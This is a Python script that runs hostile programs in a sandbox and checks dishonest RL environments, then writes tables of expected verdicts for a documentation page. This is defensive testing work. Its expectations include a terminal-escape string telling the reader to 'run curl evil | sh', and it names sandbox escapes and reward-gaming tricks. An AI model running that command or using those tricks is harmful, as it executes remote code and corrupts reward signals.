"""Hostile environment files: what each one tries, and the expected verdict (docs/hostile.md).

    python -m support.hostile

writes the page's tables: it runs each program of tests/hostile in the sandbox, and checks each environment of
tests/bad_environments.
"""

import ast
import html
import re
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

from captrain.benchmarks import load_benchmark
from captrain.contract import CheckedEnvironment
from captrain.environments import make_standard
from captrain.environments.passport import run_checks
from captrain.environments.sandbox import forkserver
from captrain.environments.sandbox.confined import active_confinement, load_confined
from captrain.errors import EnvironmentFault
from captrain.run import compose_spec

ROOT = Path(__file__).parents[2]
HOSTILE, BAD = ROOT / "tests/hostile", ROOT / "tests/bad_environments"
SOUND = (BAD / "sound.py").read_text()
PAGE = ROOT / "docs/hostile.md"
NUMEROUS = re.compile("hundred|^pays_")
"""Environments whose fault needs a hundred tasks to show; six are enough for the others."""
HASTY = 1.5
"""Timeout in seconds for programs that never answer."""
DENIED = "raised PermissionError: .*Operation not permitted"
VERDICTS = {
    # The answer after a refusal, or the reported deed.
    "read_file": DENIED,
    "list_folder": DENIED,
    "file_metadata": DENIED,
    "write_file": DENIED,
    "temporary_file": "= made 0",
    "connect": DENIED,
    "datagram": "= made 0",
    "fork_bomb": DENIED,
    "run_shell": DENIED,
    "memory_bomb": r"ran out of memory \(512 MiB\)",
    "endless_loop": "did not answer step within 1.5 s",
    "endless_stack": r"died \(signal 11\)|ran out of memory",
    "flood_reply": "printed a line of more than 1048576 bytes",
    "flood_channel": "printed a line of more than 1048576 bytes",
    "flood_output": "= done",
    "tamper_reward": "= paid",
    "shared_state": "= found 0",
    "pickle_object": "raised TypeError: Object of type Payload is not JSON serializable",
    "pickle_bytes": "printed what is not a reply: b'cos",
    "signal_others": DENIED,
    "parent_memory": DENIED,
    "trace": "= 0 of 3",
    "raw_calls": r"= through: \[\]",
    "thirty_two_bit": r"made a system call of another machine|died \(signal",
    "threads": "raised RuntimeError: can't start new thread",
    "loosen": "= loosened 0 as True",
    "deep_nesting": "printed what is not a reply",
    "nested_arguments": "returned more than 64 levels",
    "half_a_character": "returned text that is not Unicode",
    "not_a_number": "raised ValueError: Out of range float values are not JSON compliant.* in score",
    "infinite_reward": "returned the number inf, which is not JSON in score",
    "huge_reward": "returned a number beyond 64 bits in score",
    "forged_id": "answered request 77, which was not made",
    "close_descriptors": "closed its standard output|did not answer step within 1.5 s",
    "duplicate_descriptors": "= found 0",
    "hang_at_import": "does not load: it did not answer describe within 1.5 s",
    "leave": r"died \(exit status 0\)",
    "exit": "raised SystemExit: goodbye in step",
    "abort": r"died \(signal (6|11)\)",
    "tamper_with_json": "died|returned something|printed|closed|did not answer|raised",
    "unspeakable": r"raised Loud: \?\[2Jpwned error: run curl evil \| sh!+\.\.\. in step on hostile",
    "odd_shapes": "returned something that is not a list of messages",
}


STOPPED = {
    "seccomp refuses the system call": (
        "read_file", "list_folder", "file_metadata", "write_file", "temporary_file", "connect", "datagram", "fork_bomb",
        "run_shell", "signal_others", "parent_memory", "trace", "raw_calls", "thirty_two_bit", "threads", "loosen",
    ),
    "rlimits: memory and stack": ("memory_bomb", "endless_stack"),
    "the time of an answer": ("endless_loop", "hang_at_import"),
    "limits and checks of every reply": (
        "flood_reply", "flood_channel", "deep_nesting", "nested_arguments", "half_a_character", "not_a_number",
        "infinite_reward", "huge_reward", "forged_id", "odd_shapes", "pickle_object", "pickle_bytes",
        "tamper_with_json",
    ),
    "its output goes nowhere": ("flood_output",),
    "a fresh process for each score and episode": ("tamper_reward", "shared_state"),
    "a process of its own, with one channel": (
        "leave", "exit", "abort", "close_descriptors", "duplicate_descriptors",
    ),
    "messages are one line of plain text": ("unspeakable",),
}  # fmt: skip
"""Defences, and the programs that each one stops."""
MISSED = {
    "constant_reward": {
        "reward of doing nothing", "reward of random calls",
        "reward of the broken solution",
        "spread of rewards",
        "reward of plays that know nothing",
        "tasks that nothing afterwards spoils",
    },
    "capability_ignored": {"reward of the broken solution"},
    "any_write_pays": {
        "reward of plays that know nothing", "tasks that nothing afterwards spoils", "reward without the look-ups",
    },
    "idleness_pays": {"reward of doing nothing"},
    "claiming_pays": {"reward of plays that know nothing"},
    "repeated_calls_pay": {"gain of a repeated call"},
    "answer_in_the_prompt": {"calls given away"},
    "answer_in_a_result": {"calls given away"},
    "seed_ignored": {"share of distinct tasks", "structures among the tasks",
        "reward without the look-ups",
    },
    "only_names_differ": {"structures among the tasks"},
    "schemas_altered": {"schemas equal the target's"},
    "one_in_a_hundred_unsolvable": {"reward of the reference solution"},
    "other_tasks_in_another_process": {"same seed, same task in a fresh process"},
    "other_observations_each_time": {"same play, same observations", "same seed, same task in a fresh process"},
    "another_reward_in_another_process": {
        "same play, same observations", "same seed, same task in a fresh process",
    },
    "score_of_what_was_seen": {"reward of the reference solution", "spread of rewards"},
    "nothing_broken": {"steps that the broken solution changes", "reward of the broken solution",
        "reward of plays that know nothing", "reward without the look-ups", "reward of other mistakes",
        "reward of any other choice",
    },
    "too_much_broken": {"steps that the broken solution changes"},
    "pays_when_many_are_asked_for": {
        "reward of doing nothing", "reward of random calls",
        "reward of the broken solution",
        "spread of rewards", "same play, same observations",
        "reward of plays that know nothing",
        "tasks that nothing afterwards spoils", "reward without the look-ups", "reward of other mistakes",
        "reward of any other choice",
    },
    "pays_from_task_500_on": {
        "reward of doing nothing", "reward of random calls",
        "reward of the broken solution",
        "reward of plays that know nothing",
    },
    "answers_as_the_assistant": {
        "reward of the reference solution", "reward of doing nothing", "reward of random calls",
        "same play, same observations", "same seed, same task in a fresh process", "structures among the tasks",
        "share of a test task's words", "calls given away",
        "gain of a repeated call",
        "reward of the broken solution", "spread of rewards",
        "reward of plays that know nothing", "reward without the look-ups",
        "tasks that nothing afterwards spoils", "tasks that other words fail",
        "tasks with a success that is none", "reward of other mistakes",
        "reward of any other choice",
    },
}  # fmt: skip
"""File -> the checks that it fails. It passes all others."""


def program(name: str, folder: Path) -> Path:
    """Write a hostile program as an environment file."""
    path = folder / f"{name}.py"
    path.write_text(f"{(HOSTILE / f'{name}.py').read_text()}\n\n{(HOSTILE / 'frame.py').read_text()}")
    return path


def text_of(name: str) -> str:
    return f"{SOUND}\n\nSound = Environment\n\n\n{(BAD / f'{name}.py.txt').read_text()}"


def attacked(target: CheckedEnvironment, argument: str) -> str:
    """Play and score one step of a hostile program; return the verdict, or "= " and its answer if it survives."""
    task = target.tasks("training", 1)[0]
    episode = target.open(task)
    try:
        (reply,), _ = episode.step({"role": "user", "content": argument})
        score = target.score(task, [*episode.messages, reply])
        assert (score.reward, score.success) == (0.25, False)
        return f"= {reply['content']}"
    finally:
        episode.close()


def purpose(text: str) -> str:
    """Return the first sentence of a file's docstring or first comment: what it tries."""
    words = ast.get_docstring(ast.parse(text)) or ""
    if not words:
        strings = [node.value for node in ast.walk(ast.parse(text)) if isinstance(node, ast.Constant)]
        comment = text.splitlines()[0]
        words = comment.lstrip("# ") if comment.startswith("#") else next(s for s in strings if isinstance(s, str))
    return " ".join(words.split("\n\n")[0].split())


def hostile_rows() -> Iterator[tuple[str, ...]]:
    """Yield for each hostile program: file, what it tries, what stops it, verdict, seconds."""
    patience, layers = forkserver.SECONDS, {name: words for words, names in STOPPED.items() for name in names}
    for name, expected in VERDICTS.items():
        forkserver.SECONDS = HASTY if "1.5 s" in expected else patience
        with tempfile.TemporaryDirectory() as folder:
            began = time.monotonic()
            try:
                target = load_confined(program(name, Path(folder)), "strong, one layer")
                verdict = attacked(target, "9" if name in ("connect", "datagram") else f"{folder}/escaped")
            except EnvironmentFault as fault:
                verdict = fault.problem.replace(f" ({folder}/{name}.py)", "").replace(f"{folder}/", "")
            seconds = time.monotonic() - began
        forkserver.SECONDS = patience
        if not re.search(expected, verdict):
            raise SystemExit(f"{name}: {verdict}")
        words = verdict.removeprefix("environment hostile ").removeprefix("environment file ")
        text = (HOSTILE / f"{name}.py").read_text()
        yield name, purpose(text), layers[name], words[:100], f"{seconds:.1f}"


def bad_rows() -> Iterator[tuple[str, ...]]:
    """Yield for each dishonest environment: file, what is wrong, the checks that it fails, seconds."""
    spec = compose_spec("default", 0, [], ROOT / "conf")
    benchmark = load_benchmark(spec.benchmark, spec.machine)
    for name, expected in MISSED.items():
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder, "written.py")
            path.write_text(text_of(name), encoding="utf-8")
            bounds = spec.environments.model_copy(update={"seeds": 100 if NUMEROUS.search(name) else 6})
            standard = make_standard(benchmark, spec.evaluation.tasks, bounds)
            began = time.monotonic()
            checks = run_checks(load_confined(path, "none"), path, standard, ())
            seconds = time.monotonic() - began
        failed = [check.name for check in checks if not check.passed]
        if not expected & {*failed}:
            raise SystemExit(f"{name}: {failed}")
        text = (BAD / f"{name}.py.txt").read_text()
        yield (
            name,
            purpose(text),
            "; ".join(failed[:4]) + (f"; {len(failed) - 4} more" if failed[4:] else ""),
            f"{seconds:.1f}",
        )


def table(heading: str, rows: Iterator[tuple[str, ...]]) -> str:
    escaped = {ord(sign): f"\\{sign}" for sign in "|`*_[]"}
    lines = list[str]()
    for name, *cells in rows:
        lines.append(
            f"| `{name}` | {' | '.join(html.escape(cell, quote=False).translate(escaped) for cell in cells)} |"
        )
        print(lines[-1], flush=True)
    return "\n".join([heading, re.sub(r"[^|]+", "---", heading), *lines]) + "\n"


def main() -> None:
    """Rewrite the tables of the page, each below its mark."""
    tables = {
        "programs": table("| program | what it tries | what stops it | captrain reports | seconds |", hostile_rows()),
        "environments": table("| environment | what is wrong | checks that refuse it | seconds |", bad_rows()),
    }
    text, confinement = PAGE.read_text(), str(active_confinement())
    for name, rows in tables.items():
        mark = f"<!-- {name} -->\n"
        before, _, after = text.partition(mark)
        end = re.sub(r"\A\n?(?:\|.*\n)*", "", after)
        text = f"{before}{mark}\n{rows}{end}"
    text = re.sub(r"level\n`[^`]*`", f"level\n`{confinement}`", text)
    PAGE.write_text(text)


if __name__ == "__main__":
    main()
